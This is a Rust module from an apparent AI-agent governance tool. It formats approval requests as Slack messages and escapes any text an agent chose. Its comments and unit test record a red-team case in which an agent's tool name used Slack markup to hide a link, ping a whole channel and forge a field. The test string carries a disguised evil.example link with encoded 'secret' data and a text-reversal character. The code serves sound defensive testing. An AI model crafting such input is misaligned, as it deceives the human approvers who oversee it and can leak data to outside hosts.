//! Escalations reach humans: each `approval.requested` record becomes one Slack-compatible
//! message (`text`, and `blocks` in Block Kit's `section`/`mrkdwn` form) with the approval id,
//! the agent, the action, the reason, the deadline and the commands that decide it.
//!
//! What an agent chose (a path, a URL, an MCP tool's name) is shown as text, never as markup:
//! `&`, `<` and `>` are escaped as Slack asks, so `<https://x|status_check>` is no hidden link
//! and `<!channel>` pings no one, and links are not unfurled (Slack's servers would fetch an
//! address the agent wrote; red team round 28).

use serde_json::{Value, json};

use crate::events::Record;

/// The commands that decide approval `id`.
pub fn commands(id: &str) -> (String, String) {
    (
        format!("governance approve {id} --as NAME"),
        format!("governance deny {id} --reason \"...\" --as NAME"),
    )
}

/// `s` as Slack text with no markup of its own: `&`, `<`, `>` escaped, line breaks and other
/// control characters made spaces, direction overrides dropped (a field of its own, or text
/// shown backwards, is no agent's to write).
fn plain(s: &str) -> String {
    s.chars()
        .filter(|c| !matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'))
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect::<String>()
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// What an agent chose, for a Block Kit field: [`plain`] in a code span (no `*bold*`, `_`, `~`
/// formatting), whose backticks cannot end it.
fn quoted(s: &str) -> String {
    format!("`{}`", plain(s).replace('`', "'"))
}

/// The message for an `approval.requested` record.
pub fn slack_payload(r: &Record) -> Value {
    let a = r.approval.clone().unwrap_or_default();
    let raw_agent = r.agent.as_ref().map_or("(unknown)", |a| a.name.as_str());
    let raw_action = {
        let o = r.object_words();
        if o.is_empty() { r.message.clone() } else { o }
    };
    let id = plain(&a.id);
    let (approve, deny) = commands(&id);
    let (agent, action, rule, node) = (
        plain(raw_agent),
        plain(&raw_action),
        plain(&r.rule),
        plain(&r.node),
    );
    let reason = plain(if r.reason.is_empty() {
        "(no reason given)"
    } else {
        r.reason.as_str()
    });
    let deadline = plain(&a.deadline);
    let text = format!(
        "governance: agent {agent} asks for approval {id}: {action} (rule {rule}: {reason}); \
         decide before {deadline}: `{approve}` or `{deny}`"
    );
    json!({
        "text": text,
        "unfurl_links": false,
        "unfurl_media": false,
        "blocks": [
            {
                "type": "section",
                "text": {
                    "type": "mrkdwn",
                    "text": format!("*Approval needed* on {node}: agent *{agent}* was escalated"),
                },
            },
            {
                "type": "section",
                "fields": [
                    {"type": "mrkdwn", "text": format!("*Approval id*\n`{id}`")},
                    {"type": "mrkdwn", "text": format!("*Agent*\n{}", quoted(raw_agent))},
                    {"type": "mrkdwn", "text": format!("*Action*\n{}", quoted(&r.message))},
                    {"type": "mrkdwn", "text": format!("*Object*\n{}", quoted(&raw_action))},
                    {"type": "mrkdwn", "text": format!("*Rule*\n{rule}")},
                    {"type": "mrkdwn", "text": format!("*Reason*\n{reason}")},
                    {"type": "mrkdwn", "text": format!("*Deadline*\n{deadline}")},
                ],
            },
            {
                "type": "section",
                "text": {
                    "type": "mrkdwn",
                    "text": format!("Approve: `{approve}`\nDeny: `{deny}`"),
                },
            },
        ],
        // For programs (a webhook that is not Slack): the record's own text.
        "approval": {
            "id": a.id,
            "agent": raw_agent,
            "action": raw_action,
            "reason": r.reason,
            "rule": r.rule,
            "deadline": a.deadline,
            "approve": approve,
            "deny": deny,
        },
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::events::{AgentInfo, ApprovalInfo, Object, RecordType};

    /// Red team round 28: an MCP tool named with Slack's link and mention syntax reached the
    /// approver as a hidden link and an `@channel`.
    #[test]
    fn what_an_agent_chose_is_text_not_markup() {
        let hostile = "<https://evil.example/x.png?d=c2VjcmV0|status_check> (read-only) \
                       <!channel> & co\n*Rule*\nread-only `x`\u{202e}";
        let r = Record {
            ty: RecordType::Approval,
            kind: "approval.requested".to_owned().into(),
            rule: "p/ask".into(),
            agent: Some(
                AgentInfo {
                    name: "bot<!here>".into(),
                    ..Default::default()
                }
                .into(),
            ),
            object: Object {
                path: hostile.into(),
                ..Default::default()
            },
            approval: Some(
                ApprovalInfo {
                    id: "ab12cd34".into(),
                    ..Default::default()
                }
                .into(),
            ),
            message: hostile.into(),
            ..Default::default()
        };
        let p = slack_payload(&r);
        let shown = format!("{}{}", p["text"], p["blocks"]);
        assert!(!shown.contains('<') && !shown.contains('>'), "{shown}");
        assert!(shown.contains("&lt;!channel&gt;"), "{shown}");
        assert!(shown.contains("&lt;https://evil.example/x.png"), "{shown}");
        assert!(shown.contains("&amp; co"), "{shown}");
        // No line of its own (a forged field), no text shown backwards, no code span ended.
        assert!(!shown.contains("\\n*Rule*\\nread-only"), "{shown}");
        assert!(!shown.contains('\u{202e}'), "{shown}");
        assert!(shown.contains("`bot&lt;!here&gt;`"), "{shown}");
        assert_eq!(p["unfurl_links"], false);
        assert_eq!(p["unfurl_media"], false);
        // The raw record for programs, unchanged; an ordinary name is shown as it is.
        assert!(
            p["approval"]["action"]
                .as_str()
                .unwrap()
                .contains("<!channel>")
        );
        assert!(
            shown.contains("governance approve ab12cd34 --as NAME"),
            "{shown}"
        );
    }
}
